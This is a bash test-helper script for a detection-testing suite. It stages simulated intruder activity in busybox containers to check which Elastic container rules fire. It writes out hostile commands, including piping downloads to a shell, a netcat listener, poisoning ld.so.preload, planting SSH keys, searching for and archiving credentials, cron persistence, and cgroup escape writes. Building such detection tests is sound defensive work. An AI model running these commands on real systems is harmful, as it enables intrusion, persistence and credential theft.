# What an intruder does in a container, one scenario a rule of
# t/rules/elastic, for t/rules.bats to run under d4c-load | d4c-enrich and
# measure which of Elastic's rules fire on the events. Each scenario does
# what its rule detects, as the rule's description tells it; the comment
# above it names the rule's file.
#
# Sourced after helpers and containers/runc: rules_rootfs makes the
# containers' (writable) root, rules_privileged makes a bundle privileged,
# rules_run runs the scenarios in the running containers whose ids are
# $RULES_ID (unprivileged) and $RULES_PRIV_ID (privileged, for the rules
# that look for privileged containers).
#
# The root is busybox-static. Tools busybox lacks (curl, ssh, kubectl, jq,
# kubeletctl, crictl, apk, debugfs, python3) are stand-ins: copies of
# busybox under the tool's name, which exit at once ("applet not found")
# but are executed with the tool's name and arguments, which is what the
# rules look at. Commands run by absolute path where busybox's sh would
# otherwise run an applet without executing it (a real shell executes
# them); "; true" keeps sh -c from replacing itself with its last command.

# rules_rootfs DIR: a writable root file system for the victim container.
# Each applet is a hard link to busybox, not a symbolic link, so that an
# executed tool is its own file (/bin/wget, not /bin/busybox) as in an
# image of separate binaries: process.executable and process.name name the
# tool whether d4c takes the name from the kernel or from the executable.
rules_rootfs() {
	local dir=$1 t applet
	mkdir -p "$dir/bin" "$dir/proc" "$dir/sys" "$dir/dev" "$dir/tmp" "$dir/etc"
	cp /bin/busybox "$dir/bin/busybox"
	for applet in $("$dir/bin/busybox" --list); do
		[ -e "$dir/bin/$applet" ] || ln "$dir/bin/busybox" "$dir/bin/$applet"
	done
	mkdir -p "$dir/root" "$dir/tmp/cg" "$dir/var/tmp" "$dir/mnt" "$dir/usr/local/bin" \
		"$dir/usr/bin" "$dir/usr/sbin" "$dir/etc/cron.d" "$dir/etc/kubernetes/manifests" \
		"$dir/var/run/secrets/kubernetes.io/serviceaccount" "$dir/var/lib/kubelet/pki" \
		"$dir/var/lib/kubelet/pods/0b6e6c6a-3b1f-4c59-9d5e-6b8d3a2f1c11/volumes" \
		"$dir/srv/www"
	for t in curl ssh kubectl jq kubeletctl crictl apk debugfs; do
		cp /bin/busybox "$dir/usr/local/bin/$t"
	done
	cp /bin/busybox "$dir/usr/bin/python3"
	cp /bin/busybox "$dir/usr/sbin/nginx"
	cp /bin/busybox "$dir/srv/www/busybox"
	cp /bin/busybox "$dir/srv/www/tool"
	printf 'echo fetched-and-run\n' >"$dir/srv/www/x.sh"
	printf 'root:x:0:0:root:/root:/bin/sh\n' >"$dir/etc/passwd"
	printf 'aws_access_key_id = AKIAEXAMPLE\n' >"$dir/root/credentials"
	printf 'ls\n' >"$dir/root/.bash_history"
	echo 0 >"$dir/tmp/cg/notify_on_release"
	echo >"$dir/tmp/cg/release_agent"
	echo eyJhbGciOi >"$dir/var/run/secrets/kubernetes.io/serviceaccount/token"
	echo CERT >"$dir/var/run/secrets/kubernetes.io/serviceaccount/ca.crt"
	echo default >"$dir/var/run/secrets/kubernetes.io/serviceaccount/namespace"
	echo KEY >"$dir/var/lib/kubelet/pki/kubelet-client-current.pem"
}

# rules_privileged BUNDLE: as a privileged pod's container (docker run
# --privileged): every capability this machine's bounding set holds (runc
# cannot give one it lacks: these machines lack CAP_SYS_RESOURCE), no
# masked or read-only paths, and the annotation podman gives a privileged
# container, since without every capability d4c cannot tell otherwise.
rules_privileged() {
	local names="CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER FSETID KILL SETGID SETUID SETPCAP
		LINUX_IMMUTABLE NET_BIND_SERVICE NET_BROADCAST NET_ADMIN NET_RAW IPC_LOCK IPC_OWNER
		SYS_MODULE SYS_RAWIO SYS_CHROOT SYS_PTRACE SYS_PACCT SYS_ADMIN SYS_BOOT SYS_NICE
		SYS_RESOURCE SYS_TIME SYS_TTY_CONFIG MKNOD LEASE AUDIT_WRITE AUDIT_CONTROL SETFCAP
		MAC_OVERRIDE MAC_ADMIN SYSLOG WAKE_ALARM BLOCK_SUSPEND AUDIT_READ"
	local bnd n=0 c caps=()
	bnd=$(awk '/^CapBnd:/ { print $2 }' /proc/self/status)
	for c in $names; do
		(((0x$bnd >> n) & 1)) && caps+=("CAP_$c")
		n=$((n + 1))
	done
	jq --argjson caps "$(printf '%s\n' "${caps[@]}" | jq -R . | jq -sc .)" '.root.readonly = false
		| .process.capabilities = {bounding: $caps, effective: $caps, permitted: $caps}
		| .linux.maskedPaths = [] | .linux.readonlyPaths = []
		| .annotations["io.podman.annotations.privileged"] = "TRUE"' \
		"$1/config.json" >"$1/config.json.new"
	mv "$1/config.json.new" "$1/config.json"
}

# As "kubectl exec -it POD -- ARGS": ARGS in the container with a terminal.
# The command's own status does not matter (stand-ins fail by design), but
# runc's does: when runc itself fails (status 255) the scenario did not
# happen, which is said on stderr (setup.err) and tried once more.
# script(1) runs its command with $SHELL, /bin/sh (dash) where it is unset
# as under CI; printf %q quotes for bash ($'...' for a newline), so bash
# it is, or dash reads $'cd /tmp ...' as $cd and runs "/tmp".
tty_exec() {
	local out=${BATS_FILE_TMPDIR:-/tmp}/exec.out try st
	for try in 1 2; do
		st=0
		SHELL=/bin/bash script -qec "runc exec -t ${RULES_EXEC_ID:-$RULES_ID} $(printf '%q ' "$@")" /dev/null \
			</dev/null >"$out" 2>&1 || st=$?
		[ "$st" -eq 255 ] || return 0
		echo "runc exec failed (try $try): $*: $(tr -d '\r' <"$out" | tail -n 2)" >&2
	done
}

# checked_tty_exec NAME SH -c SCRIPT: a scenario whose SCRIPT ends by
# printing "scenario-done" when every command in it succeeded. When it
# does not, what it printed goes to stderr (setup.err, which a failing
# test shows) and it runs once more, its downloaded file removed first.
checked_tty_exec() {
	local name=$1 out=${BATS_FILE_TMPDIR:-/tmp}/exec.out try
	shift
	for try in 1 2; do
		tty_exec "$@"
		grep -q scenario-done "$out" && return 0
		echo "scenario failed (try $try): $name: $(tr -d '\r\000' <"$out" | tail -n 2 | tr '\n' ' ')" >&2
		bg_exec /bin/rm -f /tmp/busybox
	done
}

# Without a terminal, as a service or "kubectl exec POD -- ARGS" does.
bg_exec() {
	local out=${BATS_FILE_TMPDIR:-/tmp}/exec.out try st
	for try in 1 2; do
		st=0
		runc exec "$RULES_ID" "$@" </dev/null >"$out" 2>&1 || st=$?
		[ "$st" -eq 255 ] || return 0
		echo "runc exec failed (try $try): $*: $(tail -n 2 "$out")" >&2
	done
}

rules_run() {
	# a web server the downloads come from, inside the container
	bg_exec /bin/httpd -p 127.0.0.1:8080 -h /srv/www

	# interactive_exec_into_container: a shell, the exec's first process
	tty_exec /bin/sh -c 'exit 0'
	# interactive_shell_spawn: a shell started with -i from a shell
	tty_exec /bin/sh -c '/bin/sh -i -c true; true'
	# netcat_listener, suspicious_network_tool: a listening netcat
	tty_exec /bin/sh -c '/bin/nc -l -p 4444 & sleep 1; kill $!; true'
	# chmod_executable: a file made executable
	tty_exec /bin/touch /tmp/payload
	tty_exec /bin/chmod +x /tmp/payload
	# ld_preload_modification, suspicious_echo_printf: the preload list written
	tty_exec /bin/sh -c 'echo /tmp/evil.so > /etc/ld.so.preload; true'
	# ssh_authorized_keys: a key planted
	tty_exec /bin/mkdir -p /root/.ssh
	tty_exec /bin/sh -c 'echo ssh-ed25519 AAAAC3Nza attacker > /root/.ssh/authorized_keys; true'
	# sensitive_files_compression: credentials archived
	tty_exec /bin/tar -czf /tmp/loot.tgz /etc/passwd /root/.ssh
	# container_management, kubernetes_api_request: kubectl in the container
	tty_exec /bin/sh -c '/usr/local/bin/kubectl get pods; true'
	# cloud_credential_search, sensitive_keys_search: grep for secrets
	tty_exec /bin/grep -r aws_access_key_id /root
	tty_exec /bin/grep -r password /etc
	# environment_enumeration, privilege_boundary_enumeration, tool_enumeration
	tty_exec /bin/env
	tty_exec /bin/id
	tty_exec /bin/which curl
	# dns_enumeration
	tty_exec /bin/nslookup kubernetes.default
	# file_download: a file fetched with wget -O
	tty_exec /bin/wget -O /tmp/fetched http://127.0.0.1:8080/x.sh
	# payload_piped_to_shell, then decoded_payload_piped_to_interpreter and
	# encoded_payload: the processes of a pipeline start in any order, and
	# these rules want the shell after the downloader or decoder (a rule
	# would miss the other order as well), so the shell waits a moment
	tty_exec /bin/sh -c '/bin/wget -qO- http://127.0.0.1:8080/x.sh | (sleep 0.2; exec /bin/sh); true'
	tty_exec /bin/sh -c 'echo ZWNobyBoaQo= | /bin/base64 -d | (sleep 0.2; exec /bin/sh); true'
	# shell_history_deletion
	tty_exec /bin/rm -f /root/.bash_history
	# file_creation_then_execution, suspicious_dir_execution: dropped in /tmp, run
	tty_exec /bin/sh -c '/bin/cp /bin/busybox /tmp/dropped; /tmp/dropped true; true'
	# ingress_tool_transfer_exec_delete: downloaded, run, deleted by itself
	# (it says whether its own commands all ran: in CI it once did not, a
	# script(1) that quoted for dash)
	checked_tty_exec ingress_tool_transfer_exec_delete /bin/sh -c 'cd /tmp &&
		/bin/wget -q http://127.0.0.1:8080/busybox && /bin/chmod +x /tmp/busybox &&
		/tmp/busybox true && /tmp/busybox rm -f /tmp/busybox && echo scenario-done'
	# system_path_file_creation: wget writes into /usr/local/bin
	tty_exec /bin/wget -O /usr/local/bin/tool http://127.0.0.1:8080/tool
	# persistence_files: a cron job
	bg_exec /bin/sh -c 'echo "* * * * * root /tmp/payload" > /etc/cron.d/job; true'
	# static_pod_manifest
	bg_exec /bin/sh -c 'echo "apiVersion: v1" > /etc/kubernetes/manifests/evil.yaml; true'
	# notify_on_release, release_agent: written as in a cgroup v1 escape
	bg_exec /bin/sh -c 'echo 1 > /tmp/cg/notify_on_release; true'
	bg_exec /bin/sh -c 'echo /tmp/payload > /tmp/cg/release_agent; true'
	# service_account_token_read, service_account_namespace_read
	tty_exec /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token
	tty_exec /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/namespace
	# kubelet_certificate_access
	tty_exec /bin/cat /var/lib/kubelet/pki/kubelet-client-current.pem
	# kubelet_pod_discovery: the pods directory listed again and again
	tty_exec /bin/sh -c 'for i in 1 2 3 4 5 6; do /bin/ls /var/lib/kubelet/pods/; done; true'
	# direct_kubelet_access
	tty_exec /bin/wget -q -O- https://127.0.0.1:10250/pods
	# kubeletctl_execution, cluster_enumeration_jq
	tty_exec /usr/local/bin/kubeletctl pods
	tty_exec /usr/local/bin/jq -r .items
	# curl_socks_proxy
	tty_exec /usr/local/bin/curl --socks5-hostname 127.0.0.1:1080 http://example.com/
	# tunneling_port_forwarding
	tty_exec /usr/local/bin/ssh -L 8081:127.0.0.1:80 user@10.0.0.1
	# interpreter_execution
	tty_exec /bin/sh -c '/usr/bin/python3 -c "import os; os.system(\"id\")"; true'
	# tool_installation
	tty_exec /usr/local/bin/apk add curl
	# process_killing, chroot_execution, nsenter_target, unshare_namespace
	tty_exec /bin/kill -0 1
	tty_exec /bin/chroot / /bin/true
	tty_exec /bin/nsenter -t 1 -m /bin/true
	tty_exec /bin/unshare -U /bin/true
	# mount_privileged, debugfs_privileged: in the privileged container
	RULES_EXEC_ID=$RULES_PRIV_ID tty_exec /bin/mount -t tmpfs none /mnt
	RULES_EXEC_ID=$RULES_PRIV_ID tty_exec /usr/local/bin/debugfs -w /dev/sda1
	# container_runtime_cli
	tty_exec /usr/local/bin/crictl run --privileged pod.json
	# webserver_exploitation: a web server (nginx) runs a shell for a request
	bg_exec /bin/sh -c 'exec -a busybox /usr/sbin/nginx sh -c "/bin/sh -c \"echo pwned > /tmp/w\"; true"'
	# container_workload_protection: any alert (the policy alerts on new
	# executables, as the integration's default policy does): /tmp/dropped
}
